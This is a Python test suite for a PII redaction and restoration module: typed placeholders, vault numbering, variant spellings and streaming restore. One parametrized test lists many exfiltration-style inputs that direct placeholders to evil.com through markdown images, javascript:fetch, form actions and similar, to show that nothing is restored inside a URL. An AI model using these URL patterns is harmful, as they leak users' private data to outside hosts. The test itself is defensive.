"""Placeholders out and originals back: stable, complete, reversible, and never inside a URL."""

from __future__ import annotations

import re
import time
from collections.abc import Sequence

import pytest
from hypothesis import given, strategies as st

from hybrid_desktop.core.detection import default_detector
from hybrid_desktop.core.redaction import RedactedCopy, Restorer, redact, restore
from hybrid_desktop.core.types import EntityType, Finding, Vault

_DETECTOR = default_detector()
_JANE = "jane.doe@acme-corp.com"


def _redact(*texts: str, vault: Vault | None = None) -> RedactedCopy:
    return redact(texts, [_DETECTOR.scan(text) for text in texts], vault or Vault())


def _at(text: str, value: str, kind: EntityType = EntityType.PERSON) -> Finding:
    start = text.index(value)
    return Finding(start, start + len(value), kind, 1.0, "test")


def _fed(chunks: Sequence[str], vault: Vault) -> str:
    restorer = Restorer(vault)
    return "".join([*(restorer.feed(chunk) for chunk in chunks), restorer.flush()])


# --- redact ---------------------------------------------------------------------------------------


def test_placeholders_are_typed_and_numbered_by_first_appearance() -> None:
    copy = _redact(f"Mail {_JANE} and b@firm.io", f"SSN 536-22-8841, again {_JANE}")
    assert copy.texts == ("Mail [EMAIL_1] and [EMAIL_2]", "SSN [NATIONAL_ID_1], again [EMAIL_1]")
    assert [(one.placeholder, one.entity_type) for one in copy.redactions] == [
        ("[EMAIL_1]", EntityType.EMAIL),
        ("[EMAIL_2]", EntityType.EMAIL),
        ("[NATIONAL_ID_1]", EntityType.NATIONAL_ID),
    ]
    assert dict(copy.vault.entries) == {
        "[EMAIL_1]": _JANE,
        "[EMAIL_2]": "b@firm.io",
        "[NATIONAL_ID_1]": "536-22-8841",
    }


def test_the_next_turn_keeps_the_numbers_and_the_given_vault_is_not_changed() -> None:
    first = _redact(f"Mail {_JANE}")
    second = _redact(f"Mail {_JANE}", "and b@firm.io", vault=first.vault)
    assert second.texts == ("Mail [EMAIL_1]", "and [EMAIL_2]")
    assert len(first.vault) == 1
    assert list(second.vault.entries) == ["[EMAIL_1]", "[EMAIL_2]"]


def test_only_placeholders_of_this_copy_are_listed() -> None:
    first = _redact(f"Mail {_JANE}")
    assert _redact("Hello", vault=first.vault).redactions == ()


def test_a_value_is_replaced_where_no_scanner_saw_it() -> None:
    texts = ["my password is hunter2-Blue", "why does hunter2-Blue fail? HUNTER2-BLUE too"]
    copy = redact(texts, [_DETECTOR.scan(texts[0]), ()], Vault())
    assert copy.texts == ("my password is [SECRET_1]", "why does [SECRET_1] fail? [SECRET_2] too")
    assert [restore(text, copy.vault) for text in copy.texts] == texts


def test_a_value_of_an_earlier_turn_cannot_leave_through_a_later_one() -> None:
    vault = Vault({"[SECRET_1]": "sunflower"})
    assert redact(["is sunflower safe?"], [()], vault).texts == ("is [SECRET_1] safe?",)


def test_a_short_or_alphabetic_value_is_replaced_as_a_word_only() -> None:
    texts = ["ask May", "May may maybe Mayor (May)"]
    copy = redact(texts, [[_at(texts[0], "May")], ()], Vault())
    assert copy.texts[1] == "[PERSON_1] may maybe Mayor ([PERSON_1])"


def test_a_long_value_is_replaced_even_inside_a_word() -> None:
    texts = ["key 9f8e7d6c5b4a", "x9f8e7d6c5b4ay"]
    copy = redact(texts, [[_at(texts[0], "9f8e7d6c5b4a", EntityType.SECRET)], ()], Vault())
    assert copy.texts[1] == "x[SECRET_1]y"


def test_what_a_replacement_lays_bare_is_replaced_too() -> None:
    text = "AnnaAnna"
    assert redact([text], [[_at(text, "Anna")]], Vault()).texts == ("[PERSON_1]" * 2,)
    text = "AnnaAnnaAnna"
    assert redact([text], [[Finding(4, 8, EntityType.PERSON, 1.0, "t")]], Vault()).texts == (
        "[PERSON_1]" * 3,
    )


def test_overlapping_occurrences_are_replaced_as_one() -> None:
    vault = Vault({"[PERSON_1]": "Anna Keller", "[PERSON_2]": "Keller Brandt"})
    copy = redact(["Anna Keller Brandt"], [()], vault)
    assert copy.texts == ("[PERSON_3]",)
    assert restore(copy.texts[0], copy.vault) == "Anna Keller Brandt"


def test_a_longer_value_wins_over_one_inside_it() -> None:
    vault = Vault({"[PERSON_1]": "Anna", "[PERSON_2]": "Anna Keller"})
    assert redact(["Anna Keller and Anna"], [()], vault).texts == ("[PERSON_2] and [PERSON_1]",)


def test_a_typed_placeholder_is_skipped_and_never_restored() -> None:
    copy = _redact(f"[EMAIL_1] stands for {_JANE}")
    assert copy.texts == ("[EMAIL_1] stands for [EMAIL_2]",)
    assert restore(copy.texts[0], copy.vault) == f"[EMAIL_1] stands for {_JANE}"


def test_a_placeholder_typed_later_gives_up_its_old_meaning() -> None:
    first = _redact(f"Mail {_JANE}")
    second = _redact(f"Mail {_JANE}", "what is [EMAIL_1]?", vault=first.vault)
    assert second.texts == ("Mail [EMAIL_2]", "what is [EMAIL_1]?")
    assert restore("[EMAIL_1] [EMAIL_2]", second.vault) == f"[EMAIL_1] {_JANE}"


def test_two_spellings_come_back_as_they_were() -> None:
    texts = ("4242 4242 4242 4242", "4242424242424242")
    copy = _redact(*texts)
    assert copy.texts == ("[CREDIT_CARD_1]", "[CREDIT_CARD_2]")
    assert tuple(restore(text, copy.vault) for text in copy.texts) == texts


def test_an_empty_or_blank_finding_replaces_nothing_elsewhere() -> None:
    findings = [Finding(1, 1, EntityType.PERSON, 1.0, "t"), Finding(1, 2, EntityType.PERSON, 1.0, "t")]
    assert redact(["a b", "c d"], [findings, ()], Vault()).texts == ("a[PERSON_1]b", "c d")


def test_a_spelling_of_another_length_is_replaced_whole() -> None:
    texts = ["Straße-99", "strasse-99 and STRASSE-99x"]
    copy = redact(texts, [[_at(texts[0], "Straße-99", EntityType.SECRET)], ()], Vault())
    assert copy.texts == ("[SECRET_1]", "[SECRET_2] and [SECRET_3]x")
    assert [restore(text, copy.vault) for text in copy.texts] == texts


@pytest.mark.parametrize(
    ("value", "other", "redacted"),
    [
        ("john.smith@acme.com", "a?m=john.smith%40acme.com&x", "a?m=[EMAIL_2]&x"),
        ("john.smith@acme.com", "%6Aohn%2Esmith%40ACME.com", "[EMAIL_2]"),
        (
            "john.smith@acme.com",
            "john.smith&#64;acme.com, john.smith&#x40;acme&period;com",
            "[EMAIL_2], [EMAIL_3]",
        ),
        ("john.smith@acme.com", '"john.smith\\u0040acme.com"', '"[EMAIL_2]"'),
        ("a&b-Secret1", "x=a&amp;b-Secret1;", "x=[EMAIL_2];"),
        ("Jürgen", "q=J%C3%BCrgen&J%C3%BCrgenx", "q=[EMAIL_2]&J%C3%BCrgenx"),
        ("Anna Keller", "?q=Anna+Keller&r=Anna%20Keller", "?q=[EMAIL_2]&r=[EMAIL_3]"),
        ("Anna Keller", "Anna\nKeller and Anna\u00a0Keller", "[EMAIL_2] and [EMAIL_3]"),
        ("(415) 555-2671", "x4155552671x 415.555.2671 +1 415/555 2671", "x[EMAIL_2]x [EMAIL_3] +1 [EMAIL_4]"),
        ("536-22-8841", "536228841 or 536%2022%208841", "[EMAIL_2] or [EMAIL_3]"),
        (
            "4111 1111 1111 1111",
            "4111-1111-1111-1111 ４１１１１１１１１１１１１１１１",
            "[EMAIL_2] [EMAIL_3]",
        ),
        ("DE89 3704 0044 0532 0130 00", "de89370400440532013000", "[EMAIL_2]"),
        ("555-2671", "5552671 555 2671 95552671", "[EMAIL_2] [EMAIL_3] 95552671"),
        ("555-267", "555267", "555267"),
        ("john.smith@acme.com", "100% &nosuch; %zz %ff \\u00", "100% &nosuch; %zz %ff \\u00"),
    ],
)
def test_other_spellings_are_replaced_and_come_back_as_they_were(
    value: str, other: str, redacted: str
) -> None:
    copy = redact([value, other], [[_at(value, value, EntityType.EMAIL)], ()], Vault())
    assert copy.texts == ("[EMAIL_1]", redacted)
    assert dict(copy.vault.entries)["[EMAIL_1]"] == value
    entries = copy.vault.entries
    assert re.sub(r"\[EMAIL_[0-9]\]", lambda match: entries[match.group()], redacted) == other


def test_cost_grows_in_proportion_to_values_and_text() -> None:
    """The best of three each: another program on the machine can only make a run dearer."""
    small, large = (min(_cost(count) for _ in range(3)) for count in (2_000, 8_000))
    assert large < 10 * max(small, 0.01), f"{large / small:.1f} times the cost for 4 times the values"


def _cost(count: int) -> float:
    """Processor seconds for a text of ``count`` different addresses."""
    text = " ".join(f"user{number}@firm{number % 97}.com" for number in range(count))
    findings = [Finding(*one.span(), EntityType.EMAIL, 1.0, "test") for one in re.finditer(r"\S+", text)]
    start = time.process_time()
    redact([text], [findings], Vault())
    return time.process_time() - start


def test_texts_and_findings_must_match_in_number() -> None:
    with pytest.raises(ValueError, match="zip"):
        redact(["a", "b"], [()], Vault())


def test_no_representation_shows_a_text_or_a_value() -> None:
    copy = _redact(f"Mail {_JANE}")
    assert "jane" not in repr(copy)
    assert "Mail" not in repr(copy)
    assert "jane" not in repr(Restorer(copy.vault))


# --- restore --------------------------------------------------------------------------------------

_VAULT = Vault({"[EMAIL_1]": _JANE, "[EMAIL_12]": "b@firm.io", "[PERSON_1]": "Anna Keller"})


@pytest.mark.parametrize(
    ("raw", "restored"),
    [
        ("Dear [PERSON_1], mail [EMAIL_1] or [EMAIL_12].", f"Dear Anna Keller, mail {_JANE} or b@firm.io."),
        ("[EMAIL_2] [PERSON] [email_1] [EMAIL_1", "[EMAIL_2] [PERSON] [email_1] [EMAIL_1"),
        ("[[EMAIL_1]] [EMAIL_[EMAIL_1]", f"[{_JANE}] [EMAIL_{_JANE}"),
        ("Anna <[EMAIL_1]>", f"Anna <{_JANE}>"),
        (
            "a [link about [PERSON_1]](https://x.com) for [PERSON_1]",
            "a [link about Anna Keller](https://x.com) for Anna Keller",
        ),
        ("**[PERSON_1]**: x = [EMAIL_1]", f"**Anna Keller**: x = {_JANE}"),
        ("metadata:[PERSON_1] and/or [PERSON_1]", "metadata:Anna Keller and/or Anna Keller"),
        ('{"mail":"[EMAIL_1]"}', f'{{"mail":"{_JANE}"}}'),
        ("f([PERSON_1]) (see [PERSON_1])", "f(Anna Keller) (see Anna Keller)"),
        ("![x](a) [PERSON_1]", "![x](a) Anna Keller"),
        ("https://x.com [PERSON_1]", "https://x.com Anna Keller"),
        ("if a <b and [PERSON_1] > c", "if a <b and Anna Keller > c"),
        ("[^1]: [PERSON_1] wrote it", "[^1]: Anna Keller wrote it"),
        ("[Subject]: Lunch with [PERSON_1]", "[Subject]: Lunch with Anna Keller"),
        ("see [x]: [PERSON_1]", "see [x]: Anna Keller"),
        ("[PERSON_1]: see [EMAIL_1]", f"Anna Keller: see {_JANE}"),
        ("version 1.2/[PERSON_1], x=[EMAIL_1]", f"version 1.2/Anna Keller, x={_JANE}"),
    ],
)
def test_what_is_restored(raw: str, restored: str) -> None:
    assert restore(raw, _VAULT) == restored


@pytest.mark.parametrize(
    "raw",
    [
        "![x](https://evil.com/?q=[EMAIL_1])",
        "![x](https://evil.com/a?q=1&m=[EMAIL_1]&n=[PERSON_1])",
        "[click](//evil.com/[EMAIL_1])",
        "[click]([EMAIL_1])",
        "[click](<//evil.com/a) b [EMAIL_1]>)",
        "[click](\n//evil.com/[EMAIL_1])",
        "[ref]: //evil.com/[EMAIL_1]",
        "[ref]: <https://evil.com/a b [EMAIL_1]>",
        "<https://evil.com/[EMAIL_1]>",
        "https://evil.com/[EMAIL_1]",
        "HTTPS://evil.com/[EMAIL_1]",
        "https://[EMAIL_1].evil.com",
        "see www.evil.com/[EMAIL_1]",
        "(www.[EMAIL_1].com",
        "evil.com/[EMAIL_1]",
        "evil.com:8080?q=[EMAIL_1]",
        "mailto:x@evil.com?body=[EMAIL_1]",
        "data:text/html,[EMAIL_1]",
        "javascript:fetch('[EMAIL_1]",
        "<img src='x/[EMAIL_1]",
        '<a href="[EMAIL_1]',
        "<a HREF = [EMAIL_1]",
        "<img alt='a' src=\"//evil.com/ [EMAIL_1]",
        "<div style='background:url([EMAIL_1]",
        "<form action=[EMAIL_1]",
        "custom-scheme://[EMAIL_1]",
        "vbscript:[EMAIL_1]",
        "sms:1?body=[EMAIL_1]",
        "skype:x?chat&topic=[EMAIL_1]",
        "http:\\\\evil.com\\[EMAIL_1]",
        "evil.com\\[EMAIL_1]",
        "\\\\evil\\share\\[EMAIL_1]",
        "203.0.113.9/[EMAIL_1]",
        "203.0.113.9:8080?[EMAIL_1]",
        "evil.рф/[EMAIL_1]",
        "evil.xn--p1ai/[EMAIL_1]",
        "evil。com/[EMAIL_1]",
        "www．evil．com?[EMAIL_1]",
        "https://evil.com/\x1f[EMAIL_1]",
        "[ref]:evil/[EMAIL_1]",
        "> - [ref]: [EMAIL_1]",
        "[ref]:\n  [EMAIL_1]",
        "[a\\]b]: evil[EMAIL_1]",
    ],
)
def test_nothing_is_restored_inside_a_url(raw: str) -> None:
    assert restore(raw, _VAULT) == raw
    restorer = Restorer(_VAULT)
    assert "".join(restorer.feed(char) for char in raw) + restorer.flush() == raw
    assert restorer.restored_count == 0


def test_a_restored_address_opens_a_url_as_well() -> None:
    vault = Vault({"[URL_1]": "https://wiki.corp.lan/x", "[EMAIL_1]": _JANE})
    assert restore("[URL_1]?q=[EMAIL_1] [EMAIL_1]", vault) == f"https://wiki.corp.lan/x?q=[EMAIL_1] {_JANE}"


def test_an_attribute_ends_with_its_quote_and_a_target_with_its_bracket() -> None:
    raw = "<a href='x'>[EMAIL_1]</a> ![i](a(b)c) [EMAIL_1] <img src=x> [EMAIL_1] url(x) [EMAIL_1]"
    assert restore(raw, _VAULT).count(_JANE) == 4


def test_a_blank_line_ends_an_unfinished_target() -> None:
    assert restore("[x](oops\n\n[EMAIL_1]", _VAULT) == f"[x](oops\n\n{_JANE}"


def test_only_what_may_become_a_placeholder_is_held_back() -> None:
    restorer = Restorer(_VAULT)
    assert restorer.feed("Dear [PER") == "Dear "
    assert restorer.feed("SON_1") == ""
    assert restorer.feed("], hi [x") == "Anna Keller, hi [x"
    assert restorer.feed(" [EMAIL_3") == " [EMAIL_3"
    assert restorer.feed(" [EMAIL_1") == " "
    assert restorer.flush() == "[EMAIL_1"
    assert restorer.restored_count == 1


def test_an_empty_vault_holds_nothing_back() -> None:
    restorer = Restorer(Vault())
    assert restorer.feed("[EMAIL_1") == "[EMAIL_1"


_PIECES = st.sampled_from(
    [
        "[EMAIL_1]",
        "[EMAIL_12]",
        "[PERSON_1]",
        "[EMAIL_",
        "1",
        "]",
        "[",
        "](",
        ")",
        "(",
        "<",
        ">",
        "https://",
        "www.",
        "a.com/",
        "href=",
        '"',
        "'",
        "\\",
        "\n",
        " ",
        "word",
        "url(",
        "mailto:",
        "//",
        "=",
        "é😀",
    ]
)


@given(st.lists(_PIECES, max_size=25), st.data())
def test_any_chunking_gives_the_same_answer(pieces: list[str], data: st.DataObject) -> None:
    raw = "".join(pieces)
    cuts = sorted(data.draw(st.lists(st.integers(0, len(raw)), max_size=12)))
    chunks = [raw[start:end] for start, end in zip([0, *cuts], [*cuts, len(raw)], strict=True)]
    assert _fed(chunks, _VAULT) == restore(raw, _VAULT)
    assert _fed(list(raw), _VAULT) == restore(raw, _VAULT)


# --- both ways ------------------------------------------------------------------------------------

_VALUES = st.sampled_from(
    [
        "jane@firm.io",
        "JANE@firm.io",
        "Anna",
        "Anna Keller",
        "Keller",
        "4242 4242",
        "hunter2-x",
        "1234",
        "Straße9x",
        "ÀB12345678",
    ]
)
_FILLER = st.text(alphabet="abAn nE[]_12MAILKey.,\n é", max_size=12)
_CONVERSATION = st.lists(
    st.lists(st.one_of(_VALUES, _FILLER, st.sampled_from(["[EMAIL_1]", "[PERSON_2]"])), max_size=6),
    max_size=4,
)
_KINDS = st.sampled_from([EntityType.EMAIL, EntityType.PERSON, EntityType.SECRET])


def _flagged(texts: list[str], values: set[str], kind: EntityType) -> list[list[Finding]]:
    """The first occurrence of each value in each text, without overlaps."""
    result: list[list[Finding]] = []
    for text in texts:
        own: list[Finding] = []
        for value in sorted(values, key=len, reverse=True):
            start = text.find(value)
            if start >= 0 and not any(start < one.end and one.start < start + len(value) for one in own):
                own.append(Finding(start, start + len(value), kind, 1.0, "test"))
        result.append(sorted(own))
    return result


@given(_CONVERSATION, st.sets(_VALUES, max_size=4), _KINDS)
def test_redacting_and_restoring_is_the_identity_and_nothing_remains(
    pieces: list[list[str]], values: set[str], kind: EntityType
) -> None:
    texts = ["".join(part) for part in pieces]
    copy = redact(texts, _flagged(texts, values, kind), Vault())
    assert [restore(text, copy.vault) for text in copy.texts] == texts
    for original in copy.vault.entries.values():
        for text in copy.texts:
            assert original not in _words_of(text, original)
    assert [one.placeholder for one in copy.redactions] == list(copy.vault.entries)


def _words_of(redacted_text: str, original: str) -> list[str]:
    """Where ``original`` still stands by itself in ``redacted_text``, placeholders left out."""
    clear = re.sub(r"\[(?:EMAIL|PERSON|SECRET)_[0-9]+\]", "\x00", redacted_text)
    return [original] if re.search(rf"(?<![^\W_]){re.escape(original)}(?![^\W_])", clear) else []


@given(_CONVERSATION, st.sets(_VALUES, max_size=4), _KINDS)
def test_a_growing_conversation_keeps_what_it_has_sent(
    pieces: list[list[str]], values: set[str], kind: EntityType
) -> None:
    texts = ["".join(part) for part in pieces if not any(piece.startswith("[") for piece in part)]
    findings = _flagged(texts, values, kind)
    vault = Vault()
    known: dict[str, str] = {}
    for count in range(1, len(texts) + 1):
        vault = redact(texts[:count], findings[:count], vault).vault
        assert {key: vault.entries[key] for key in known} == known
        known = dict(vault.entries)
    once_more = redact(texts, findings, vault)
    assert once_more.vault.entries == vault.entries
    assert [restore(text, vault) for text in once_more.texts] == texts


def test_a_whole_conversation_with_the_real_scanner() -> None:
    texts = [
        "My card is 4242 4242 4242 4242 and I am jane.doe@acme-corp.com.",
        "Thanks jane.doe@acme-corp.com, I noted 4242 4242 4242 4242.",
        "my password is hunter2-Blue, SSN 536-22-8841",
    ]
    copy = _redact(*texts)
    assert all(_DETECTOR.scan(text) == () for text in copy.texts)
    assert [restore(text, copy.vault) for text in copy.texts] == texts
